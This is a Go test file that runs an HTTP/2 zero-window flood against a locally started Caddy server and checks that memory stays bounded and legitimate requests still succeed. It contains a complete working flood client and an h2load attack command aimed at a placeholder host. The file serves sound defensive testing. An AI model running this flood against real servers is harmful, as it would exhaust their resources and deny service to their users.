package frontal

import (
	"bytes"
	"context"
	"crypto/tls"
	"fmt"
	"io"
	"net"
	"net/http"
	"sync"
	"sync/atomic"
	"testing"
	"time"

	"github.com/stretchr/testify/assert"
	"github.com/stretchr/testify/require"
	"golang.org/x/net/http2"
	"golang.org/x/net/http2/hpack"

	"github.com/arkforge/proveit-corpus/corpus"
	"github.com/arkforge/proveit-corpus/harness/servertest"
)

// The HTTP/2 window attack: a client that advertises a zero stream window
// and never sends WINDOW_UPDATE lets no response body leave the server, so
// every stream it opens holds its handler, its buffers and its goroutine
// until the write timeout. h2load does it with
//
//	h2load -c 800 -m 250 -n 100000 -w 0 -W 0 http://HOST/regles-achat
//
// which the flood below reproduces, without the secret.
const (
	floodConns    = 800
	floodStreams  = 250     // streams a connection asks for at once
	floodRequests = 100_000 // requests in all, shared between the connections
	floodTarget   = "/regles-achat"
	// floodHold is how long the streams are held open: the server's write
	// timeout (10 s) is what ends them, so the peak is reached well before.
	floodHold = 6 * time.Second
	// The bound the attack must stay under, and the goal the report
	// holds the calls with the secret to: a time, so a figure and not a
	// test's verdict (a loaded machine slows every call).
	floodMemoryBound = 512 << 20
	floodAnswerBound = time.Second
	// floodStarved is a call the attack starved: one left waiting for the
	// streams to be let go takes seconds; a call served while they are
	// held, even on a loaded machine, a fraction of that.
	floodStarved      = floodHold / 2
	floodLegitCalls   = 5 // a protocol, during the attack
	floodDialDeadline = 3 * time.Second
)

// floodTally counts what became of the attack's connections and streams.
type floodTally struct {
	dialed, dialFailed, closedEarly atomic.Int64 // closedEarly: closed by the server before any frame
	opened, refused, answered       atomic.Int64 // streams: sent, reset by the server, answered with headers
}

// floodChannel is how the attack reaches the server: h2c in clear, or
// HTTP/2 chosen by ALPN inside TLS.
type floodChannel struct {
	name   string
	useTLS bool
}

var floodChannels = []floodChannel{{"h2c", false}, {"h2 over TLS", true}}

// dial opens one connection of the attack to addr.
func (c floodChannel) dial(ctx context.Context, addr string) (net.Conn, error) {
	d := &net.Dialer{Timeout: floodDialDeadline}
	if !c.useTLS {
		return d.DialContext(ctx, "tcp", addr)
	}
	td := tls.Dialer{NetDialer: d, Config: &tls.Config{NextProtos: []string{"h2"}, InsecureSkipVerify: true}}
	conn, err := td.DialContext(ctx, "tcp", addr)
	if err != nil {
		return nil, err
	}
	if proto := conn.(*tls.Conn).ConnectionState().NegotiatedProtocol; proto != "h2" {
		conn.Close()
		return nil, fmt.Errorf("ALPN chose %q, not h2", proto)
	}
	return conn, nil
}

// h2Protocols are what a server with HTTP/2 switched on serves, as an
// operator switches it on: h2 beside HTTP/1.x over TLS, h2c in clear.
func h2Protocols(useTLS bool) string {
	if useTLS {
		return "h1 h2"
	}
	return "h1 h2c"
}

func (c floodChannel) scheme() string {
	if c.useTLS {
		return "https"
	}
	return "http"
}

// waitHeld waits until a second has passed since start and the count of
// streams answered has stopped growing for 200 ms, or limit has passed, and
// returns the time since start.
func (t *floodTally) waitHeld(start time.Time, limit time.Duration) time.Duration {
	last, steady := int64(-1), 0
	for time.Since(start) < limit {
		time.Sleep(50 * time.Millisecond)
		if n := t.answered.Load(); n == last && n > 0 {
			steady++
		} else {
			last, steady = n, 0
		}
		if steady >= 4 && time.Since(start) >= time.Second {
			break
		}
	}
	return time.Since(start)
}

// h2Flood runs the attack against addr until ctx ends.
func h2Flood(ctx context.Context, channel floodChannel, addr string, tally *floodTally) *sync.WaitGroup {
	var wg sync.WaitGroup
	perConn := floodRequests / floodConns
	for range floodConns {
		wg.Add(1)
		go func() {
			defer wg.Done()
			floodOne(ctx, channel, addr, perConn, tally)
		}()
	}
	return &wg
}

// floodOne is one connection of the attack: it opens up to floodStreams
// streams, and a new one each time the server resets one, until it has sent
// budget requests; it reads every frame and never grants a byte of window.
// A connection the server refuses, before or during the TLS handshake, is
// counted as closed at once.
func floodOne(ctx context.Context, channel floodChannel, addr string, budget int, tally *floodTally) {
	tally.dialed.Add(1)
	conn, err := channel.dial(ctx, addr)
	if err != nil {
		if channel.useTLS && ctx.Err() == nil {
			tally.closedEarly.Add(1) // the TCP connection was closed under the handshake
		} else {
			tally.dialFailed.Add(1)
		}
		return
	}
	answered := false // by any frame: a connection refused at once gets none
	defer func() {
		if !answered {
			tally.closedEarly.Add(1)
		}
	}()
	stop := context.AfterFunc(ctx, func() { conn.Close() })
	defer stop()
	defer conn.Close()

	var mu sync.Mutex // the framer's writes: the reader acknowledges, the writer opens streams
	fr := http2.NewFramer(conn, conn)
	var block bytes.Buffer
	enc := hpack.NewEncoder(&block)
	nextID, sent := uint32(1), 0
	open := func(n int) error {
		mu.Lock()
		defer mu.Unlock()
		for ; n > 0 && sent < budget; n-- {
			block.Reset()
			for _, f := range [][2]string{{":method", "GET"}, {":scheme", channel.scheme()}, {":authority", addr}, {":path", floodTarget}} {
				_ = enc.WriteField(hpack.HeaderField{Name: f[0], Value: f[1]}) // to memory: cannot fail
			}
			if err := fr.WriteHeaders(http2.HeadersFrameParam{StreamID: nextID, BlockFragment: block.Bytes(), EndStream: true, EndHeaders: true}); err != nil {
				return err
			}
			nextID += 2
			sent++
			tally.opened.Add(1)
		}
		return nil
	}
	mu.Lock()
	_, err = io.WriteString(conn, http2.ClientPreface)
	if err == nil {
		err = fr.WriteSettings(http2.Setting{ID: http2.SettingInitialWindowSize, Val: 0}, http2.Setting{ID: http2.SettingEnablePush, Val: 0})
	}
	mu.Unlock()
	if err == nil {
		err = open(floodStreams)
	}
	if err != nil {
		return
	}
	for {
		frame, err := fr.ReadFrame()
		if err != nil {
			return
		}
		answered = true
		switch f := frame.(type) {
		case *http2.SettingsFrame:
			if !f.IsAck() {
				mu.Lock()
				err = fr.WriteSettingsAck()
				mu.Unlock()
			}
		case *http2.PingFrame:
			if !f.IsAck() {
				mu.Lock()
				err = fr.WritePing(true, f.Data)
				mu.Unlock()
			}
		case *http2.HeadersFrame:
			tally.answered.Add(1)
		case *http2.RSTStreamFrame:
			tally.refused.Add(1)
			err = open(1)
		case *http2.GoAwayFrame:
			return
		}
		if err != nil {
			return
		}
	}
}

// legitClients are the calls Trust Layer would make during the attack, over
// HTTP/1.1 and over HTTP/2 (h2c in clear, h2 inside TLS), each on a fresh
// connection from source, another address than the attacker's.
func legitClients(source net.Addr, useTLS bool) map[string]*http.Client {
	dialer := &net.Dialer{LocalAddr: source, Timeout: 5 * time.Second}
	insecure := &tls.Config{InsecureSkipVerify: true}
	dialH2 := func(ctx context.Context, network, addr string, conf *tls.Config) (net.Conn, error) {
		conn, err := dialer.DialContext(ctx, network, addr)
		if err != nil || !useTLS {
			return conn, err
		}
		tc := tls.Client(conn, conf)
		if err := tc.HandshakeContext(ctx); err != nil {
			conn.Close()
			return nil, err
		}
		return tc, nil
	}
	return map[string]*http.Client{
		"HTTP/1.1": {Timeout: 10 * time.Second, Transport: &http.Transport{DialContext: dialer.DialContext,
			TLSClientConfig: insecure, DisableKeepAlives: true}},
		"HTTP/2": {Timeout: 10 * time.Second, Transport: &http2.Transport{AllowHTTP: !useTLS,
			TLSClientConfig: insecure, DialTLSContext: dialH2}},
	}
}

// legitSource is 127.0.0.2, which the loopback answers on Linux (all of
// 127/8 is routed there); nil where the system has no second loopback
// address.
func legitSource() net.Addr {
	addr := &net.TCPAddr{IP: net.IPv4(127, 0, 0, 2)}
	l, err := net.ListenTCP("tcp", addr)
	if err != nil {
		return nil
	}
	l.Close()
	return addr
}

// legitCall times one call with the secret and checks its bytes.
func legitCall(client *http.Client, url, secret string, want []byte) (time.Duration, error) {
	req, err := http.NewRequest(http.MethodGet, url, nil)
	if err != nil {
		return 0, err
	}
	req.Header.Set(corpus.SecretHeader, secret)
	start := time.Now()
	resp, err := client.Do(req)
	if err != nil {
		return time.Since(start), err
	}
	defer resp.Body.Close()
	body, err := io.ReadAll(resp.Body)
	elapsed := time.Since(start)
	switch {
	case err != nil:
		return elapsed, err
	case resp.StatusCode != http.StatusOK || !bytes.Equal(body, want):
		return elapsed, fmt.Errorf("status %d, %d bytes: not the resource", resp.StatusCode, len(body))
	}
	return elapsed, nil
}

// TestH2WindowFlood runs the window attack at 800 connections against Caddy
// alone, with HTTP/2 switched on, in clear and over TLS, and holds it to its
// bounds: the server's resident memory stays under 512 MB, and calls with
// the secret, from another address, are answered right while the attack
// lasts (how fast, against the report's goal of a second, is a figure).
func TestH2WindowFlood(t *testing.T) {
	source := legitSource()
	if source == nil {
		t.Skip("no second loopback address for the calls with the secret (127.0.0.2)")
	}
	for _, channel := range floodChannels {
		t.Run(channel.name, func(t *testing.T) {
			secret := newSecrets(t, 1)[0]
			s := servertest.Start(t, servertest.Options{Secrets: []string{secret}, TLS: channel.useTLS,
				Protocols: h2Protocols(channel.useTLS), Lifetime: 2 * time.Minute})
			clients := legitClients(source, channel.useTLS)
			url := s.URL + floodTarget
			want := func() []byte {
				req, err := http.NewRequest(http.MethodGet, url, nil)
				require.NoError(t, err)
				req.Header.Set(corpus.SecretHeader, secret)
				resp, err := clients["HTTP/1.1"].Do(req)
				require.NoError(t, err)
				defer resp.Body.Close()
				body, err := io.ReadAll(resp.Body)
				require.NoError(t, err)
				require.Equal(t, http.StatusOK, resp.StatusCode)
				return body
			}()
			before := s.RSS()
			require.NotZero(t, before, "the server's resident memory is readable (/proc)")

			ctx, cancel := context.WithTimeout(context.Background(), floodHold)
			defer cancel()
			tally := &floodTally{}
			start := time.Now()
			attack := h2Flood(ctx, channel, fmt.Sprintf("127.0.0.1:%d", s.Port), tally)
			var peak atomic.Int64
			sampled := make(chan struct{})
			go func() {
				defer close(sampled)
				tick := time.NewTicker(50 * time.Millisecond)
				defer tick.Stop()
				for {
					peak.Store(max(peak.Load(), s.RSS()))
					select {
					case <-ctx.Done():
						return
					case <-tick.C:
					}
				}
			}()

			// The calls start once the attack holds its streams: a second
			// after it began, and its count of answered streams steady.
			heldAfter := tally.waitHeld(start, floodHold/2)
			slowest := map[string]time.Duration{}
			var failures []string
			for i := range floodLegitCalls {
				for _, proto := range []string{"HTTP/1.1", "HTTP/2"} {
					elapsed, err := legitCall(clients[proto], url, secret, want)
					slowest[proto] = max(slowest[proto], elapsed)
					switch {
					case err != nil:
						failures = append(failures, fmt.Sprintf("%s call %d: %v", proto, i+1, err))
					case elapsed >= floodStarved:
						failures = append(failures, fmt.Sprintf("%s call %d: answered in %s, as if it waited for the attack to end", proto, i+1, elapsed))
					}
				}
				time.Sleep(500 * time.Millisecond)
			}
			<-ctx.Done()
			attack.Wait()
			<-sampled
			x := floodFigures{
				Channel: channel.name, HeldAfter: heldAfter,
				Dialed: tally.dialed.Load(), DialFailed: tally.dialFailed.Load(), ClosedEarly: tally.closedEarly.Load(),
				Opened: tally.opened.Load(), Answered: tally.answered.Load(), Refused: tally.refused.Load(),
				RSSBefore: before, RSSPeak: peak.Load(), Failures: len(failures),
				SlowestH1: slowest["HTTP/1.1"], SlowestH2: slowest["HTTP/2"],
			}
			t.Logf("window flood, %s: %d connections dialled (%d failed, %d closed by the server at once), %d streams "+
				"sent, %d answered with headers, %d reset; server RSS %d MB before, peak %d MB; streams held after %s; "+
				"slowest call with the secret from 127.0.0.2: HTTP/1.1 %s, HTTP/2 %s", x.Channel, x.Dialed, x.DialFailed,
				x.ClosedEarly, x.Opened, x.Answered, x.Refused, x.RSSBefore>>20, x.RSSPeak>>20, x.HeldAfter,
				x.SlowestH1, x.SlowestH2)

			assert.Empty(t, failures, "calls with the secret during the attack")
			assert.Less(t, x.RSSPeak, int64(floodMemoryBound), "the server's resident memory under the attack")
			figures.addFlood(x)
		})
	}
}

// floodFigures are what one run of TestH2WindowFlood measured, for the report.
type floodFigures struct {
	Channel                                                    string
	HeldAfter                                                  time.Duration // from the attack's start to the calls
	Dialed, DialFailed, ClosedEarly, Opened, Answered, Refused int64
	RSSBefore, RSSPeak                                         int64
	Failures                                                   int
	SlowestH1, SlowestH2                                       time.Duration
}

func (f *reportFigures) addFlood(x floodFigures) {
	f.mu.Lock()
	defer f.mu.Unlock()
	f.flood = append(f.flood, x)
}

// TestH2SettingsAdvertised reads the SETTINGS the server sends first, in
// clear and over TLS: the limits of the Caddyfile reach every HTTP/2
// connection.
func TestH2SettingsAdvertised(t *testing.T) {
	want := map[http2.SettingID]uint32{
		http2.SettingMaxConcurrentStreams: 16,
		http2.SettingInitialWindowSize:    16384,
		http2.SettingMaxFrameSize:         16384,
	}
	for _, useTLS := range []bool{false, true} {
		s := servertest.Start(t, servertest.Options{Secrets: newSecrets(t, 1), TLS: useTLS, Protocols: h2Protocols(useTLS), Lifetime: time.Minute})
		addr := fmt.Sprintf("127.0.0.1:%d", s.Port)
		var conn net.Conn
		var err error
		if useTLS {
			conn, err = tls.Dial("tcp", addr, &tls.Config{NextProtos: []string{"h2"}, InsecureSkipVerify: true})
		} else {
			conn, err = net.Dial("tcp", addr)
		}
		require.NoError(t, err)
		defer conn.Close()
		require.NoError(t, conn.SetDeadline(time.Now().Add(5*time.Second)))
		_, err = io.WriteString(conn, http2.ClientPreface)
		require.NoError(t, err)
		fr := http2.NewFramer(conn, conn)
		require.NoError(t, fr.WriteSettings())
		frame, err := fr.ReadFrame()
		require.NoError(t, err)
		settings, ok := frame.(*http2.SettingsFrame)
		require.True(t, ok, "the server's first frame is its SETTINGS, not %T", frame)
		for id, value := range want {
			got, ok := settings.Value(id)
			assert.True(t, ok && got == value, "TLS %v: %s is %d, want %d", useTLS, id, got, value)
		}
	}
}
